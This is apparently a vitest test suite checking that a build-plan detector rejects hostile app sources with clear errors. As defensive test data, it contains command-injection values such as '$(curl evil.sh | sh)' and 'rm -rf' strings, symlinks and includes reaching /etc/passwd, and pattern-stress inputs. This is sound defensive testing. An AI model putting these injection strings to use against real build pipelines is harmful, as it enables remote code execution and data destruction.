// Hostile sources: every one must end in a clear ValidationError naming the file and the
// problem (or a warning), never a raw crash, a hang, or a read outside the source.
import { execFileSync } from "node:child_process";
import { truncateSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ValidationError } from "../errors.ts";
import { detectBuildPlan, InvalidSourceFileError, MAX_PROCESS_TYPES } from "./index.ts";
import { FIXTURES, makeSource } from "./test-sources.ts";

const SERVER = 'require("node:http").createServer((q, s) => s.end("ok")).listen(process.env.PORT);\n';
const PKG = JSON.stringify({ name: "x", scripts: { start: "node server.js" } });

async function failure(dir: string): Promise<InvalidSourceFileError> {
  const err = await detectBuildPlan(dir).then(
    (plan) => new Error(`expected an error, got a ${plan.stack} plan`),
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(ValidationError);
  return err as InvalidSourceFileError;
}

describe("hostile fixture apps", () => {
  it("a package.json that is not JSON", async () => {
    const err = await failure(join(FIXTURES, "hostile-package-json"));
    expect(err).toBeInstanceOf(InvalidSourceFileError);
    expect(err.message).toMatch(/^package\.json: is not valid JSON \(/);
    expect(err.details).toEqual({ file: "package.json" });
  });

  it("a package.json that links to /etc/passwd is refused, not read", async () => {
    const err = await failure(join(FIXTURES, "hostile-symlink-out"));
    expect(err.message).toMatch(/^package\.json: is a symbolic link to a place outside the source directory/);
    expect(err.message).not.toContain("root:");
  });

  it("a Procfile with broken lines names each of them", async () => {
    const err = await failure(join(FIXTURES, "hostile-procfile"));
    expect(err.message).toMatch(/^Procfile: /);
    expect(err.message).toContain('line 2: expected "name: command", got "worker node worker.js"');
    expect(err.message).toContain('line 3: "web.1" is not a valid process type name');
    expect(err.message).toContain('line 4: "" is not a valid process type name');
    expect(err.message).toContain('line 5: the process type "clock" has no command');
    expect(err.message).toContain('line 6: the process type "web" is already defined on line 1');
  });

  it("a Dockerfile with unsupported instructions names each, and not the harmless ones", async () => {
    const err = await failure(join(FIXTURES, "hostile-dockerfile"));
    expect(err.message).toMatch(/^Dockerfile: /);
    expect(err.message).toContain("line 7: VOLUME is not supported: instances have no persistent disk");
    expect(err.message).toContain("line 8: SHELL is not supported");
    expect(err.message).toContain("line 9: ADD https://example.com/tool.tar.gz: builds have no network");
    expect(err.message).not.toMatch(/HEALTHCHECK|USER|LABEL/);
  });
});

describe("oversized, binary and special files", () => {
  it("a 50 MB package.json is refused by its size, without reading it", async () => {
    const dir = makeSource({ "server.js": SERVER });
    writeFileSync(join(dir, "package.json"), "");
    truncateSync(join(dir, "package.json"), 50 * 1024 * 1024);
    const err = await failure(dir);
    expect(err.message).toBe("package.json: is 50 MiB, more than the 1 MiB detection reads of one file.");
  });

  it("a manifest just over 1 MiB is refused; one at 1 MiB is read", async () => {
    const frame = ['{"name":"x","scripts":{"start":"node server.js"},"description":"', '"}'];
    const padded = (size: number) => frame.join("a".repeat(size - frame.join("").length));
    expect(Buffer.byteLength(padded(1024 * 1024))).toBe(1024 * 1024);
    const ok = await detectBuildPlan(makeSource({ "package.json": padded(1024 * 1024), "server.js": SERVER }));
    expect(ok.processes.web).toBe("npm start");
    const err = await failure(makeSource({ "package.json": padded(1024 * 1024 + 1) }));
    expect(err.message).toMatch(/^package\.json: is 1 MiB, more than the 1 MiB/);
  });

  it("binary garbage in package.json", async () => {
    const garbage = Buffer.from([0x7b, 0x00, 0xff, 0xfe, 0x13, 0x37, 0x00, 0x42]);
    const err = await failure(makeSource({ "package.json": garbage }));
    expect(err.message).toBe("package.json: contains binary data (NUL bytes), expected text.");
  });

  it("bytes that are not UTF-8 in requirements.txt", async () => {
    const err = await failure(makeSource({ "requirements.txt": Buffer.from([0x66, 0x6c, 0xe4, 0x73, 0x6b, 0xff, 0x0a]) }));
    expect(err.message).toBe("requirements.txt: is not UTF-8 text.");
  });

  it("a FIFO named package.json is refused without blocking", async () => {
    const dir = makeSource({});
    execFileSync("mkfifo", [join(dir, "package.json")]);
    const err = await failure(dir);
    expect(err.message).toBe("package.json: is not a regular file (a device, socket or pipe).");
  }, 5000);

  it("a directory named package.json", async () => {
    const err = await failure(makeSource({ "package.json/x": "" }));
    expect(err.message).toBe("package.json: is a directory, expected a file.");
  });

  it("a package.json that is a link loop", async () => {
    const err = await failure(makeSource({ "package.json": { symlink: "loop.json" }, "loop.json": { symlink: "package.json" } }));
    expect(err.message).toBe("package.json: is a symbolic link that loops back on itself.");
  });

  it("a relative link that climbs out of the source", async () => {
    const err = await failure(makeSource({ "go.mod": { symlink: "../../../../../../../etc/hostname" } }));
    expect(err.message).toMatch(/^go\.mod: is a symbolic link to a place outside the source directory/);
  });

  it("a directory link out of the source (public/ -> /etc) is refused when detection looks into it", async () => {
    const err = await failure(makeSource({ public: { symlink: "/etc" } }));
    // The PHP rule looks for public/index.php first.
    expect(err.message).toMatch(/^public\/index\.php: is a symbolic link to a place outside the source directory/);
  });

  it("links that stay inside the source are followed", async () => {
    const plan = await detectBuildPlan(
      makeSource({ "config/package.json": PKG, "package.json": { symlink: "config/package.json" }, "server.js": SERVER }),
    );
    expect(plan).toMatchObject({ stack: "nodejs", processes: { web: "npm start" } });
  });

  it("a dangling link counts as no file", async () => {
    const plan = await detectBuildPlan(makeSource({ "package.json": PKG, "yarn.lock": { symlink: "gone.lock" }, "server.js": SERVER }));
    expect(plan.packageManager).toBe("npm");
  });

  it("a Python module that links out is skipped when looking for the Flask app", async () => {
    const plan = await detectBuildPlan(
      makeSource({
        "requirements.txt": "flask\ngunicorn\n",
        "app.py": { symlink: "/etc/hostname" },
        "web.py": "from flask import Flask\nserver = Flask(__name__)\n",
      }),
    );
    expect(plan.processes.web).toBe("gunicorn web:server --bind 0.0.0.0:$PORT");
  });

  it("a requirements.txt that includes a file outside the source", async () => {
    const err = await failure(makeSource({ "requirements.txt": "-r ../../../etc/passwd\n" }));
    expect(err.message).toBe("../../../etc/passwd: is outside the source directory.");
  });

  it("a requirements.txt that includes itself", async () => {
    const err = await failure(makeSource({ "requirements.txt": "-r requirements.txt\n" }));
    expect(err.message).toBe("requirements.txt: includes files more than 5 levels deep.");
  });

  it("a source directory that does not exist", async () => {
    const err = await detectBuildPlan("/nonexistent/skypanel-source").catch((e) => e);
    expect(err).toBeInstanceOf(ValidationError);
    expect(err.message).toBe("The source directory does not exist or cannot be read.");
  });
});

describe("hostile Procfiles", () => {
  it(`10,000 process types is more than ${MAX_PROCESS_TYPES}`, async () => {
    const lines = Array.from({ length: 10_000 }, (_, i) => `p${i}: node server.js`).join("\n");
    const err = await failure(makeSource({ "package.json": PKG, Procfile: lines }));
    expect(err.message).toBe(`Procfile: declares 10000 process types; an app may have at most ${MAX_PROCESS_TYPES}.`);
  });

  it("10,000 lines of comments and blank lines around one entry are fine", async () => {
    const filler = Array.from({ length: 5000 }, (_, i) => `# comment ${i}\n`).join("\n");
    const plan = await detectBuildPlan(makeSource({ "package.json": PKG, Procfile: `${filler}\nweb: node server.js\n${filler}` }));
    expect(plan.processes).toEqual({ web: "node server.js" });
  });

  it("10,000 lines without a colon: the first five are named, and how many more", async () => {
    const lines = Array.from({ length: 10_000 }, (_, i) => `garbage line ${i}`).join("\n");
    const err = await failure(makeSource({ "package.json": PKG, Procfile: lines }));
    expect(err.message).toContain('line 1: expected "name: command", got "garbage line 0"');
    expect(err.message).toContain("line 5:");
    expect(err.message).not.toContain("line 6:");
    expect(err.message).toContain("(and 9995 more bad lines)");
  });

  it.each([
    ["web.1", '"web.1" is not a valid process type name'],
    ["a".repeat(64), `"${"a".repeat(60)}…" is not a valid process type name`],
    ["wörker", '"wörker" is not a valid process type name'],
    ["my worker", '"my worker" is not a valid process type name'],
  ])("the process name %j is refused", async (name, message) => {
    const err = await failure(makeSource({ "package.json": PKG, Procfile: `web: node server.js\n${name}: node w.js\n` }));
    expect(err.message).toContain(`line 2: ${message}`);
  });

  it("a Procfile of binary garbage", async () => {
    const err = await failure(makeSource({ "package.json": PKG, Procfile: Buffer.from([0, 1, 2, 3, 255]) }));
    expect(err.message).toBe("Procfile: contains binary data (NUL bytes), expected text.");
  });
});

describe("hostile manifests", () => {
  it.each([
    [{ name: "x", scripts: ["start"] }, '"scripts" must be an object.'],
    [{ name: "x", scripts: { start: 42 } }, '"scripts.start" must be a string.'],
    [{ name: "x", engines: { node: 20 } }, '"engines.node" must be a string.'],
    [{ name: "x", engines: { node: "$(curl evil.sh | sh)" } }, 'package.json: "$(curl evil.sh | sh)" is not a Node.js version'],
    [{ name: "x", main: "../../etc/passwd" }, '"main" is "../../etc/passwd"; it must be a file path inside the app.'],
    [{ name: "x", main: "/etc/passwd" }, '"main" is "/etc/passwd"; it must be a file path inside the app.'],
    [[1, 2, 3], "package.json: must be a JSON object."],
  ])("package.json %j", async (pkg, message) => {
    const err = await failure(makeSource({ "package.json": JSON.stringify(pkg), "server.js": SERVER }));
    expect(err.message).toContain(message);
  });

  it("a main with shell characters is quoted, not run", async () => {
    const plan = await detectBuildPlan(
      makeSource({ "package.json": JSON.stringify({ main: "app; rm -rf ~.js" }), "app; rm -rf ~.js": SERVER }),
    );
    expect(plan.processes.web).toBe("node 'app; rm -rf ~.js'");
  });

  it("an .nvmrc of garbage", async () => {
    const err = await failure(makeSource({ "package.json": PKG, ".nvmrc": "please use the latest node `rm -rf /`\n" }));
    expect(err.message).toMatch(/^\.nvmrc: "please use the latest node `rm -rf \/`" is not a Node\.js version/);
  });

  it("a pyproject.toml that is not TOML names the line", async () => {
    const err = await failure(makeSource({ "pyproject.toml": '[project]\nname = "x"\ndependencies = ["flask",\n\n[tool.x]\n' }));
    expect(err.message).toBe("pyproject.toml: is not valid TOML (line 5, column 2: invalid value).");
  });

  it("a pyproject.toml that describes nothing to install", async () => {
    const err = await failure(makeSource({ "pyproject.toml": "[tool.black]\nline-length = 100\n" }));
    expect(err.message).toBe("pyproject.toml: has neither a [project] nor a [tool.poetry] table, so it does not say what to install.");
  });

  it.each([["python 3.11"], ["python-latest"], ["python-3.11\x00"]])("a runtime.txt saying %j", async (runtime) => {
    const err = await failure(makeSource({ "requirements.txt": "flask\n", "runtime.txt": runtime }));
    expect(err.message).toMatch(/^runtime\.txt: /);
  });

  it("a composer.json that is not JSON", async () => {
    const err = await failure(makeSource({ "composer.json": "{ require: php }" }));
    expect(err.message).toMatch(/^composer\.json: is not valid JSON/);
  });

  it("a Cargo.toml without a package", async () => {
    const err = await failure(makeSource({ "Cargo.toml": '[workspace]\nmembers = ["a", "b"]\n' }));
    expect(err.message).toMatch(/^Cargo\.toml: is a workspace whose members \(none found\) have no binary to run/);
  });

  it("a go.mod without a module line", async () => {
    const err = await failure(makeSource({ "go.mod": "go 1.21\n" }));
    expect(err.message).toBe("go.mod: has no module line.");
  });
});

// Files read with patterns (vite.config, start scripts, Staticfile, TOML): the worst shapes
// for a backtracking pattern, at the size detection reads, must still take moments.
describe("hostile text read with patterns", () => {
  const quickly = async (files: Record<string, string>) => {
    const started = Date.now();
    const result = await detectBuildPlan(makeSource(files)).catch((e: unknown) => e);
    expect(Date.now() - started).toBeLessThan(3000);
    return result;
  };
  const spa = { build: "vite build" };

  it("a vite.config of 400,000 unclosed block comments", async () => {
    const plan = await quickly({
      "package.json": JSON.stringify({ scripts: spa, devDependencies: { vite: "*" } }),
      "index.html": "",
      "vite.config.js": `outDir: 'x' ${"/*".repeat(400_000)}`,
    });
    expect(plan).toMatchObject({ processes: { web: "node .skypanel/static-server.mjs --spa x" } });
  });

  it("a start script of 100,000 node options and no file", async () => {
    const plan = await quickly({
      "package.json": JSON.stringify({
        scripts: { build: "tsc", start: `node ${"-r ".repeat(100_000)};` },
        devDependencies: { typescript: "*" },
      }),
    });
    expect(plan).toMatchObject({ processes: { web: "npm start" } });
  });

  it("a Staticfile line of 60,000 spaces between words, and a TOML file of 100,000 nested arrays", async () => {
    const site = await quickly({ Staticfile: `root: a${" ".repeat(60_000)}b\n` });
    expect((site as Error).message).toMatch(/^Staticfile: root is "a {59}…"; it must be a directory inside the app/);
    const toml = await quickly({ "pyproject.toml": `x = ${"[".repeat(100_000)}` });
    expect((toml as Error).message).toMatch(/^pyproject\.toml: is not valid TOML \(line 1, column \d+: /);
  });
});
